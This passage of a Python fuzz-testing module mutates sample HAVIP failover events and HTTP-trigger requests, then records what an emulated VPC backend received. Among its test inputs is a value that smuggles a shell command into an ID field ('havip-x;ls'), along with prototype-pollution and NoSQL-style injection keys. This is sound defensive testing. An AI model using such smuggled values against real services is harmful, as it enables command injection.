        value = json.loads(data)
    except ValueError:
        return False
    others = ("specversion", "source", "type", "product", "alertState")
    return (
        isinstance(value, dict)
        and any(key in value for key in ("HaVipId", "InstanceId"))
        and not any(key in value for key in others)
    )


def _names_for(op: str) -> str | None:
    if op.startswith("body-json:inject-id:"):
        return op.rsplit(":", 1)[1]
    return _OP_NAMES.get(op)


# The GET (inspect) sample has no body and no event to mutate: its token and method handling are
# tested on their own (tests/unit/test_sources.py, tests/functional/test_entry.py).
NOT_FUZZED = frozenset({"expected.json", "http-inspect-get.json"})


def load_samples() -> list[tuple[str, bytes]]:
    return [(p.name, p.read_bytes()) for p in sorted(EVENTS_DIR.glob("*.json")) if p.name not in NOT_FUZZED]


def _paths(value: Any, prefix: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Every path (dict keys / list indexes) into a JSON value, the root excluded."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield (*prefix, key)
            yield from _paths(item, (*prefix, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield (*prefix, index)
            yield from _paths(item, (*prefix, index))


def _get(value: Any, path: tuple[Any, ...]) -> Any:
    for part in path:
        value = value[part]
    return value


def _parent(value: Any, path: tuple[Any, ...]) -> Any:
    return _get(value, path[:-1])


class Mutator:
    """Deterministic mutations of the sample events (`random.Random(seed)`)."""

    def __init__(self, seed: int, samples: list[tuple[str, bytes]] | None = None) -> None:
        self.rng = random.Random(seed)
        self.samples = samples if samples is not None else load_samples()
        self.parsed = {name: json.loads(data) for name, data in self.samples}
        self._huge_cache: dict[str, bytes] = {}
        self.byte_ops: list[tuple[Callable[[str, bytes], FuzzCase], int]] = [
            (self.flip, 10),
            (self.truncate, 8),
            (self.invalid_utf8, 6),
            (self.random_bytes, 4),
            (self.splice, 4),
            (self.prefix_junk, 2),
            (self.oversize, 1),
            (self.deep_text, 2),
            (self.duplicate_key, 2),
        ]
        self.tree_ops: list[tuple[Callable[[str, Any], FuzzCase | None], int]] = [
            (self.delete_key, 10),
            (self.null_value, 6),
            (self.wrong_type, 12),
            (self.type_confusion, 6),
            (self.huge_string, 3),
            (self.deep_value, 3),
            (self.inject_id, 14),
            (self.inject_any, 6),
            (self.rename_key, 5),
            (self.add_key, 3),
            (self.body_mutation, 14),
            (self.http_abuse, 14),
            (self.random_json, 3),
        ]

    # -- driving ---------------------------------------------------------------------

    def cases(self, count: int) -> Iterator[FuzzCase]:
        byte_weight = sum(w for _, w in self.byte_ops)
        tree_weight = sum(w for _, w in self.tree_ops)
        for n in range(count):
            name, data = self.samples[n % len(self.samples)]
            case: FuzzCase | None = None
            while case is None:
                if self.rng.random() < byte_weight / (byte_weight + tree_weight):
                    op = self._pick(self.byte_ops)
                    case = op(name, data)
                else:
                    top = self._pick(self.tree_ops)
                    case = top(name, json.loads(data))
            if case.names is None:
                case.names = _names_for(case.op)
            yield case

    def _pick(self, ops: list[tuple[Any, int]]) -> Any:
        return self.rng.choices([op for op, _ in ops], weights=[w for _, w in ops])[0]

    def _dump(self, value: Any) -> bytes:
        return json.dumps(value, ensure_ascii=self.rng.random() < 0.5).encode("utf-8", "surrogatepass")

    @staticmethod
    def _is_http(value: Any) -> bool:
        return isinstance(value, dict) and isinstance(value.get("requestContext"), dict) and "headers" in value

    def _http_codes(self, value: Any, *statuses: int) -> frozenset[int]:
        return frozenset(statuses) if self._is_http(value) else frozenset()

    # -- byte-level ------------------------------------------------------------------

    def flip(self, name: str, data: bytes) -> FuzzCase:
        buf = bytearray(data)
        for _ in range(self.rng.randint(1, 8)):
            i = self.rng.randrange(len(buf))
            buf[i] ^= 1 << self.rng.randrange(8)
        return FuzzCase(name, "byte-flip", bytes(buf))

    def truncate(self, name: str, data: bytes) -> FuzzCase:
        cut = self.rng.randrange(0, max(1, len(data.rstrip()) - 1))
        return FuzzCase(name, "truncate", data[:cut], must_reject=True)

    def invalid_utf8(self, name: str, data: bytes) -> FuzzCase:
        bad = self.rng.choice(
            [b"\xff", b"\xfe", b"\xc3\x28", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\x80", b"\xc0\xaf"]
        )
        i = self.rng.randrange(len(data) + 1)
        return FuzzCase(
            name,
            "invalid-utf8",
            data[:i] + bad + data[i:],
            must_reject=True,
            expect_codes=frozenset({"InvalidEncoding"}),
        )

    def random_bytes(self, name: str, data: bytes) -> FuzzCase:
        n = self.rng.choice([0, 1, 2, 8, 64, 512, 4096])
        return FuzzCase("random", "random-bytes", self.rng.randbytes(n), must_reject=True)

    def splice(self, name: str, data: bytes) -> FuzzCase:
        i, j = sorted(self.rng.randrange(len(data) + 1) for _ in range(2))
        if self.rng.random() < 0.5:
            return FuzzCase(name, "delete-range", data[:i] + data[j:])
        k = self.rng.randrange(len(data) + 1)
        return FuzzCase(name, "duplicate-range", data[:k] + data[i:j] + data[k:])

    def prefix_junk(self, name: str, data: bytes) -> FuzzCase:
        junk = self.rng.choice([b"\x00", b"\x00\x00\x00", b")]}'\n", b"\x1b[2J", b"null", b"[", b"<?xml?>"])
        return FuzzCase(name, "prefix-junk", junk + data, must_reject=True)

    def oversize(self, name: str, data: bytes) -> FuzzCase:
        if name not in self._huge_cache:
            pad = MAX_EVENT_BYTES + 1 - len(data) + self.rng.randrange(1000)
            self._huge_cache[name] = data.rstrip() + b" " * pad
        return FuzzCase(
            name, "oversize", self._huge_cache[name], must_reject=True, expect_codes=frozenset({"EventTooLarge"})
        )

    def deep_text(self, name: str, data: bytes) -> FuzzCase:
        depth = self.rng.choice([33, 100, 1000, 50_000])
        opener, closer = self.rng.choice([("[", "]"), ('{"a":', "}")])
        text = (opener * depth + "1" + closer * depth).encode()
        return FuzzCase("synthetic", "deep-nesting", text, must_reject=True, expect_codes=frozenset({"NestingTooDeep"}))

    def duplicate_key(self, name: str, data: bytes) -> FuzzCase:
        text = data.decode("utf-8").rstrip()
        value = self.parsed[name]
        if not isinstance(value, dict) or not value:
            return self.flip(name, data)
        key = self.rng.choice(list(value))
        # a second, different value under the same key, appended at the end of the object
        dup = text[:-1].rstrip() + f', {json.dumps(key)}: "i-dup0000000000001"}}'
        return FuzzCase(
            name, "duplicate-key", dup.encode(), must_reject=True, expect_codes=frozenset({"DuplicateKey"}), names=key
        )

    # -- structural ------------------------------------------------------------------

    def _pick_path(
        self, value: Any, want: Callable[[Any, tuple[Any, ...]], bool] | None = None
    ) -> tuple[Any, ...] | None:
        paths = [p for p in _paths(value) if want is None or want(value, p)]
        return self.rng.choice(paths) if paths else None

    def delete_key(self, name: str, value: Any) -> FuzzCase | None:
        path = self._pick_path(value, lambda v, p: isinstance(_parent(v, p), dict))
        if path is None:
            return None
        del _parent(value, path)[path[-1]]
        return FuzzCase(name, "delete-key", self._dump(value))

    def null_value(self, name: str, value: Any) -> FuzzCase | None:
        path = self._pick_path(value)
        if path is None:
            return None
        _parent(value, path)[path[-1]] = self.rng.choice([None, "null", "NULL", "", " ", "None", "undefined"])
        return FuzzCase(name, "null-value", self._dump(value))

    def wrong_type(self, name: str, value: Any) -> FuzzCase | None:
        path = self._pick_path(value)
        if path is None:
            return None
        replacement = self.rng.choice(
            [0, -1, 1.5, 1e308, -0.0, 10**30, True, False, [], {}, [1, 2], {"a": 1}, "string", ["i-x"], {"id": 1}]
        )
        _parent(value, path)[path[-1]] = replacement
        return FuzzCase(name, "wrong-type", self._dump(value))

    def type_confusion(self, name: str, value: Any) -> FuzzCase | None:
        path = self._pick_path(value)
        if path is None:
            return None
        old = _get(value, path)
        if isinstance(old, bool):
            new: Any = self.rng.choice(["true", "false", "yes", 1, 0, "True", "FALSE", "1"])
        elif isinstance(old, (int, float)):
            new = self.rng.choice([str(old), f" {old} ", f"{old}e0", [old], str(old) + "x", -abs(old) - 1])
        elif isinstance(old, str):
            new = self.rng.choice(
                [[old], {"value": old}, len(old), old.encode().hex(), old.upper(), old * 3, old[: len(old) // 2]]
            )
        else:
            new = self.rng.choice([json.dumps(old), str(old), None])
        _parent(value, path)[path[-1]] = new
        return FuzzCase(name, "type-confusion", self._dump(value))

    def huge_string(self, name: str, value: Any) -> FuzzCase | None:
        path = self._pick_path(value)
        if path is None:
            return None
        size = self.rng.choice([10_000, 100_000, 600_000])
        _parent(value, path)[path[-1]] = self.rng.choice(["A", "i-a", "华", "\u202e", "%"]) * size
        return FuzzCase(name, "huge-string", self._dump(value))

    def deep_value(self, name: str, value: Any) -> FuzzCase | None:
        path = self._pick_path(value)
        if path is None:
            return None
        depth = self.rng.choice([33, 40, 200, 500])
        nested: Any = "i-bp1master000000001"
        for _ in range(depth):
            nested = [nested] if self.rng.random() < 0.5 else {"x": nested}
        _parent(value, path)[path[-1]] = nested
        # json.dumps itself recurses: keep it shallow enough for the encoder
        try:
            data = self._dump(value)
        except RecursionError:
            return None
        return FuzzCase(name, "deep-value", data, must_reject=True, expect_codes=frozenset({"NestingTooDeep"}))

    def _id_paths(self, value: Any) -> list[tuple[Any, ...]]:
        return [p for p in _paths(value) if p and p[-1] in ID_KEYS and isinstance(_get(value, p), str)]

    def inject_id(self, name: str, value: Any) -> FuzzCase | None:
        """An injection character in an id field (when the sample has one in its JSON tree)."""
        paths = self._id_paths(value)
        if not paths:
            return self.body_mutation(name, value)
        path = self.rng.choice(paths)
        old = _get(value, path)
        inj = self.rng.choice(INJECTIONS)
        new = self.rng.choice([old + inj, inj + old, old[:3] + inj + old[3:], inj])
        _parent(value, path)[path[-1]] = new
        return FuzzCase(name, f"inject-id:{path[-1]}", self._dump(value), names=str(path[-1]))

    def inject_any(self, name: str, value: Any) -> FuzzCase | None:
        path = self._pick_path(value, lambda v, p: isinstance(_get(v, p), str))
        if path is None:
            return None
        old = _get(value, path)
        _parent(value, path)[path[-1]] = old + self.rng.choice(INJECTIONS)
        return FuzzCase(name, "inject-any", self._dump(value))

    def rename_key(self, name: str, value: Any) -> FuzzCase | None:
        path = self._pick_path(value, lambda v, p: isinstance(_parent(v, p), dict))
        if path is None:
            return None
        parent = _parent(value, path)
        key = path[-1]
        new = self.rng.choice(
            [key.lower(), key.upper(), key + "s", key[1:] if len(key) > 1 else key + "x", key[::-1], key.swapcase()]
        )
        if len(key) > 2 and self.rng.random() < 0.3:
            i = self.rng.randrange(len(key) - 1)
            new = key[:i] + key[i + 1] + key[i] + key[i + 2 :]
        if new in parent:
            return None
        parent[new] = parent.pop(key)
        return FuzzCase(name, "rename-key", self._dump(value))

    def add_key(self, name: str, value: Any) -> FuzzCase | None:
        target = value
        if isinstance(value, list) and value:
            target = self.rng.choice(value)
        if not isinstance(target, dict):
            return None
        key = self.rng.choice(["__proto__", "constructor", "Force", "DryRun", "HaVipId", "extra", "", "\x00", "type"])
        target[key] = self.rng.choice([True, "true", 1, None, "havip-x;ls", {"$ne": 1}, ["x"]])
        return FuzzCase(name, "add-key", self._dump(value))

    def random_json(self, name: str, value: Any) -> FuzzCase | None:
        def gen(depth: int) -> Any:
            r = self.rng.random()
            if depth > 3 or r < 0.3:
                return self.rng.choice([None, True, 0, -5, 2.5, "", "x", "i-bp1master000000001", "havip-x", "ALERT"])
            if r < 0.65:
                return [gen(depth + 1) for _ in range(self.rng.randint(0, 4))]
            keys = [
                "type",
                "InstanceId",
                "instanceId",
                "healthy",
                "source",
                "specversion",
                "data",
                "alertState",
                "id",
                "k",
            ]
            return {self.rng.choice(keys): gen(depth + 1) for _ in range(self.rng.randint(0, 5))}

        return FuzzCase("synthetic", "random-json", self._dump(gen(0)))

    # -- the body inside an HTTP-trigger envelope ----------------------------------------

    def body_mutation(self, name: str, value: Any) -> FuzzCase | None:
        if not self._is_http(value) or not isinstance(value.get("body"), str):
            return self.inject_any(name, value)
        body = value["body"]
        if value.get("isBase64Encoded") is True:
            body = base64.b64decode(body).decode("utf-8")
        ctype = str(value["headers"].get("Content-Type", ""))
        op = "body"
        if "json" in ctype:
            inner = json.loads(body)
            sub = self.rng.choice(
                [self.delete_key, self.wrong_type, self.inject_id, self.null_value, self.type_confusion]
            )
            mutated = sub(name, inner) if sub != self.inject_id or self._id_paths(inner) else None
            if mutated is None:
                return None
            new_body = mutated.data.decode("utf-8", "surrogatepass")
            op += "-json:" + mutated.op
            if _is_order(mutated.data):
                # still an order (UnassociateHaVip's parameters): refused over HTTP by its shape,
                # before any field is read, so the refusal names no field
                op = "body-order:" + mutated.op
                value["body"] = (
                    base64.b64encode(new_body.encode("utf-8", "surrogatepass")).decode()
                    if value.get("isBase64Encoded") is True
                    else new_body
                )
                return FuzzCase(name, op, self._dump(value), expect_status=self._http_codes(value, 403))
        else:
            fields = urllib.parse.parse_qsl(body, keep_blank_values=True)
            if not fields:  # no body to mutate (a GET: inspect)
                return None
            i = self.rng.randrange(len(fields))
            key, old = fields[i]
            choice = self.rng.random()
            if choice < 0.25:
                del fields[i]
                op += "-form:delete"
            elif choice < 0.6 and key == "dimensions":
                inj = self.rng.choice(INJECTIONS)
                fields[i] = (
                    key,
                    old.replace(
                        "instanceId=i-",
                        "instanceId=i-" + inj if self.rng.random() < 0.5 else "instanceId=" + inj + "i-",
                    ),
                )
                op += "-form:inject-dimensions"
            elif choice < 0.8:
                fields[i] = (
                    key,
                    self.rng.choice(
                        [
                            "",
                            "null",
                            "\x00",
                            "9" * 400,
                            "华" * 50,
                            "ALERTX",
                            "{",
                            "}",
                            "{=}",
                            old + self.rng.choice(INJECTIONS),
                        ]
                    ),
                )
                op += "-form:value"
            else:
                fields.append((key, old + "-different"))
                op += "-form:repeat"
            new_body = urllib.parse.urlencode(fields)
        if value.get("isBase64Encoded") is True:
            new_body = base64.b64encode(new_body.encode("utf-8", "surrogatepass")).decode()
        value["body"] = new_body
        return FuzzCase(name, op, self._dump(value), expect_status=self._http_codes(value, 200, 202, 400, 500))

    def http_abuse(self, name: str, value: Any) -> FuzzCase | None:
        """Token, method, encoding and envelope abuse of an HTTP-trigger request."""
        if not self._is_http(value):
            return None  # another operation is drawn
        headers = value["headers"]
        query = value.setdefault("queryParameters", {}) if isinstance(value.get("queryParameters"), dict) else {}
        # A request still carrying an order is refused by its shape (403) once its body is read.
        body = value.get("body")
        handled = frozenset(
            {200, 202, 400, 500} | ({403} if isinstance(body, str) and _is_order(body.encode()) else set())
        )
        which = self.rng.choice(
            [
                "token-missing",
                "token-wrong",
                "token-wrong",
                "token-header-wrong",
                "token-list",
                "token-empty",
                "method",
                "base64-garbage",
                "base64-flag",
                "body-type",
                "content-type",
                "charset",
                "headers-type",
            ]
        )
        if which == "token-missing":
            query.pop("token", None)
            headers.pop("X-Havip-Token", None)
            return FuzzCase(
                name,
                which,
                self._dump(value),
                must_reject=True,
                expect_status=frozenset({401}),
                expect_codes=frozenset({"MissingCallbackToken"}),
            )
        if which == "token-empty":
            query["token"] = ""
            return FuzzCase(
                name,
                which,
                self._dump(value),
                must_reject=True,
                expect_status=frozenset({401}),
                expect_codes=frozenset({"MissingCallbackToken"}),
            )
        if which in ("token-wrong", "token-header-wrong"):
            good = SAMPLE_CALLBACK_TOKEN
            wrong = self.rng.choice(
                [
                    "x",
                    good[:-1],
                    good + "x",
                    good.upper(),
                    good[:-1] + chr(ord(good[-1]) + 1),
                    "a" * 64,
                    "a" * 4096,
                    good + "\x00",
                    good.replace("o", "\u043e"),  # Cyrillic o
                    " " + good,
                    self.rng.randbytes(12).hex(),
                ]
            )
            if which == "token-wrong":
                query["token"] = wrong
            else:
                headers["X-Havip-Token"] = wrong  # the query token stays right: both must be
            return FuzzCase(
                name,
                which,
                self._dump(value),
                must_reject=True,
                expect_status=frozenset({403}),
                expect_codes=frozenset({"InvalidCallbackToken"}),
            )
        if which == "token-list":
            query.pop("token", None)
            headers["X-Havip-Token"] = [SAMPLE_CALLBACK_TOKEN, "other"]
            return FuzzCase(name, which, self._dump(value), must_reject=True, expect_status=frozenset({403}))
        if which == "method":
            # (GET is inspect, a read-only view: not a method to refuse)
            method = self.rng.choice(["PUT", "DELETE", "HEAD", "OPTIONS", "PATCH", "", None, 123, "PO ST"])
            value["requestContext"]["http"]["method"] = method
            return FuzzCase(
                name,
                which,
                self._dump(value),
                must_reject=True,
                expect_status=frozenset({400, 405}),
                expect_codes=frozenset({"MethodNotAllowed", "MalformedHttpEvent"}),
            )
        if which == "base64-garbage":
            value["isBase64Encoded"] = True
            value["body"] = self.rng.choice(
                ["%%%not base64%%%", "YWJj=", "====", "\u00e9t\u00e9", base64.b64encode(b"\xff\xfe\x00").decode()]
            )
            return FuzzCase(name, which, self._dump(value), must_reject=True, expect_status=frozenset({400}))
        if which == "base64-flag":
            value["isBase64Encoded"] = self.rng.choice(["maybe", 1, [], {}, "yes"])
            return FuzzCase(name, which, self._dump(value), must_reject=True, expect_status=frozenset({400}))
        if which == "body-type":
            value["body"] = self.rng.choice([123, {"alertState": "ALERT"}, ["a"], True])
            return FuzzCase(name, which, self._dump(value), must_reject=True, expect_status=frozenset({400}))
        if which == "content-type":
            headers["Content-Type"] = self.rng.choice(
                ["text/xml", "multipart/form-data; boundary=x", "image/png", "application/x-www-form-urlencoded\x00"]
            )
            return FuzzCase(name, which, self._dump(value), expect_status=handled)
        if which == "charset":
            headers["Content-Type"] = "application/x-www-form-urlencoded; charset=" + self.rng.choice(
                ["bogus-9", "utf-32", "\u00e9", "x" * 300]
            )
            return FuzzCase(name, which, self._dump(value), expect_status=handled)
        value["headers"] = self.rng.choice(["x", 1, ["Content-Type"], None])
        # headers gone or unreadable: the query token may still be right
        return FuzzCase(name, which, self._dump(value), expect_status=frozenset({200, 202, 400, 401, 403, 500}))


# ---------------------------------------------------------------------------------------
# What the emulator saw: every DescribeHaVips answer and every UnassociateHaVip that reached
# the backend, with the HAVIP as it was at that moment (the property checks need to know
# which view of a HAVIP the function acted on, and what the API saw when the call arrived).


@dataclass(frozen=True)
class View:
    time: float
    region: str | None
    havips: dict[str, dict[str, Any]]


@dataclass(frozen=True)
class Dispatch:
    time: float
    region: str | None
    havip: str | None
    instance: str | None
    force: bool
    client_token: str | None
    before: dict[str, Any] | None
    accepted: bool
    code: str | None
    ours: bool  # False: a mutation acting as "someone else"


class Recorder:
    """Wraps the backend's two actions (instance attributes; the emulator's code is untouched)."""

    def __init__(self, backend: VpcBackend) -> None:
        self._lock = threading.Lock()
        self.views: list[View] = []
        self.dispatches: list[Dispatch] = []
        describe = backend.describe_ha_vips
        unassociate = backend.unassociate_ha_vip

        def recording_describe(
            region_id: str | None,
            filters: Any = (),
            page_number: str | int | None = None,
            page_size: str | int | None = None,
        ) -> dict[str, Any]:
            result = describe(region_id, filters, page_number, page_size)
            view = View(time.monotonic(), region_id, {h["HaVipId"]: h for h in result["HaVips"]["HaVip"]})
            with self._lock:
                self.views.append(view)
            return result

        def recording_unassociate(request_id: str, **kwargs: Any) -> str:
            try:
                before: dict[str, Any] | None = backend.get_havip(kwargs.get("ha_vip_id") or "")
            except KeyError:
                before = None
            record: dict[str, Any] = {
                "time": time.monotonic(),
                "region": kwargs.get("region_id"),
                "havip": kwargs.get("ha_vip_id"),
                "instance": kwargs.get("instance_id"),
                "force": (kwargs.get("force") or "").lower() == "true",
                "client_token": kwargs.get("client_token"),
                "before": before,
                "ours": request_id != "mutation-someone-else",
            }
            try:
                rid = unassociate(request_id, **kwargs)
            except Exception as err:
                with self._lock:
                    self.dispatches.append(Dispatch(**record, accepted=False, code=getattr(err, "code", "?")))
                raise
            with self._lock:
                self.dispatches.append(Dispatch(**record, accepted=True, code=None))
            return rid

        setattr(backend, "describe_ha_vips", recording_describe)  # noqa: B010 (an instance attribute over a method)
        setattr(backend, "unassociate_ha_vip", recording_unassociate)  # noqa: B010

    def clear(self) -> None:
        with self._lock:
            self.views.clear()
            self.dispatches.clear()

    def last_view(self, region: str, havip: str, before: float) -> dict[str, Any] | None:
        """The HAVIP as the last DescribeHaVips answer before `before` showed it."""
        with self._lock:
            for view in reversed(self.views):
                if view.region == region and view.time < before and havip in view.havips:
                    return view.havips[havip]
        return None
